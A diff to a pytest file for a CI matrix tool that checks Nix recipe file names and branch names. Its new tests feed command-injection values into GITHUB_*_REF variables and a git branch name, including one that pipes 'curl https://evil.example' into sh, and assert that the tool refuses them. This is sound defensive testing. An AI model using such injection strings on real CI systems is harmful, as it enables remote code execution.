@@ -4,6 +4,7 @@ pure rules, then `ci-tools matrix` on real git repositories."""
 from __future__ import annotations
 
 import json
+import re
 from pathlib import Path
 
 import pytest
@@ -49,18 +50,16 @@ def test_names_become_targets_with_platform_and_base() -> None:
 @pytest.mark.parametrize(
     ("file", "says"),
     [
-        # Names the real build repository carried (barstoolbluz/build-pytorch history).
-        ("pytorch-python313-cpu-armv8.2.nix", 'did you mean "pytorch-python313-cpu-armv8_2"?'),
-        (
-            "pytorch-python313-cuda12_8-sm121-armv9-nightly.nix",
-            '"-nightly" after "pytorch-python313-cuda12_8-sm121-armv9" is outside the grammar',
-        ),
+        # Names the real build repository carried (barstoolbluz/build-pytorch history) that
+        # are no declared alias.
         ("pytorch-python313-darwin-x86.nix", "is not a variant name"),
         (
-            "pytorch-python313-cuda13_0-sm120-avx512-magma.nix",
-            '"-magma" after "pytorch-python313-cuda13_0-sm120-avx512"',
+            "pytorch-python313-cuda12_8-sm120-avx2-cu128.nix",
+            '"-cu128" after "pytorch-python313-cuda12_8-sm120-avx2" is outside the grammar; if '
+            'it marks another build of that variant, add "cu128" under `builds:` in '
+            "ci-tools.yaml",
         ),
-        ("pytorch-python313-mps.nix", 'did you mean "pytorch-python313-darwin-mps"?'),
+        ("pytorch-python313-cpu-armv8.3.nix", "is not a variant name"),
         ("pytorch-py313-sm90-avx512.nix", "is not a variant name"),
         ("pytorch-python313-cpu-sve2.nix", 'unknown ISA "sve2"'),
         ("pytoch-python313-cpu-avx2.nix", 'unknown package "pytoch" (did you mean "pytorch"?)'),
@@ -74,7 +73,7 @@ def test_every_other_file_is_a_problem_naming_what_would_be_right(file: str, say
     assert len(found.problems) == 1
     assert found.problems[0].startswith(f"{PKGS}/{file.split('/')[0]}")
     assert says in found.problems[0]
-    assert "--ignore" in found.problems[0]
+    assert "a glob under `ignore:` in ci-tools.yaml, or --ignore NAME" in found.problems[0]
 
 
 def test_ignored_by_name_is_not_a_problem() -> None:
@@ -138,13 +137,13 @@ def test_matrix_in_a_checkout_without_catalog(tmp_path: Path, run_cli: CliRunner
     assert not any("fingerprint" in e for e in stacks)
     fingerprinted = json.loads(run_cli("matrix", "--fingerprints", cwd=root).stdout)["include"]
     assert [{k: v for k, v in e.items() if k != "fingerprint"} for e in fingerprinted] == stacks
-    assert all(len(e["fingerprint"]) == 32 for e in fingerprinted)
+    assert all(re.fullmatch(r"(nix|raw)-[0-9a-f]{32}", e["fingerprint"]) for e in fingerprinted)
 
 
 def test_names_outside_the_grammar_exit_2_naming_each_file(
     tmp_path: Path, run_cli: CliRunner
 ) -> None:
-    bad = ("pytorch-python313-cpu-armv8.2.nix", "pytorch-python313-cpu-sve2.nix")
+    bad = ("pytorch-python313-cpu-armv8.3.nix", "pytorch-python313-cpu-sve2.nix")
     root = _repo(tmp_path, (*RECIPES, *bad))
     result = run_cli("matrix", cwd=root)
     assert result.returncode == 2
@@ -155,7 +154,7 @@ def test_names_outside_the_grammar_exit_2_naming_each_file(
     ok = run_cli(
         "matrix",
         "--ignore",
-        "pytorch-python313-cpu-armv8.2",
+        "pytorch-python313-cpu-armv8.3",
         "--ignore",
         "pytorch-python313-cpu-sve2",
         cwd=root,
@@ -197,6 +196,37 @@ def test_detached_head_takes_the_branch_from_the_workflow(
     assert {e["branch"] for e in json.loads(result.stdout)["include"]} == {branch}
     explicit = run_cli("matrix", "--branch", "other", cwd=root, env=env)
     assert {e["branch"] for e in json.loads(explicit.stdout)["include"]} == {"other"}
+
+
+@pytest.mark.parametrize(
+    ("env", "variable"),
+    [
+        ({"GITHUB_HEAD_REF": 'x"; curl https://evil.example | sh; #'}, "GITHUB_HEAD_REF"),
+        ({"GITHUB_BASE_REF": "$(touch /tmp/pwned)"}, "GITHUB_BASE_REF"),
+        ({"GITHUB_REF": "refs/heads/a..b"}, "GITHUB_REF"),
+        ({"GITHUB_HEAD_REF": "x" * 100_000}, "GITHUB_HEAD_REF"),
+    ],
+)
+def test_a_branch_from_the_workflow_is_validated_like_an_argument(
+    tmp_path: Path, run_cli: CliRunner, env: dict[str, str], variable: str
+) -> None:
+    """Issue 20 item 12: without a catalog, the branch from GITHUB_*_REF reached the matrix
+    unvalidated."""
+    root = _repo(tmp_path, RECIPES)
+    git(root, "checkout", "-q", "--detach")
+    result = run_cli("matrix", cwd=root, env=env)
+    assert result.returncode == 2, result.stdout
+    assert f"the branch from {variable}, " in result.stderr
+    assert "pass --branch NAME" in result.stderr
+    assert len(result.stderr) < 2000
+    assert result.stdout == ""
+
+
+def test_a_git_branch_outside_the_grammar_is_refused(tmp_path: Path, run_cli: CliRunner) -> None:
+    root = _repo(tmp_path, RECIPES, branch="fix$(id)")
+    result = run_cli("matrix", cwd=root)
+    assert result.returncode == 2
+    assert "the branch from git's current branch, 'fix$(id)', " in result.stderr
 
 
 def test_detached_head_without_a_named_branch_is_bad_input(
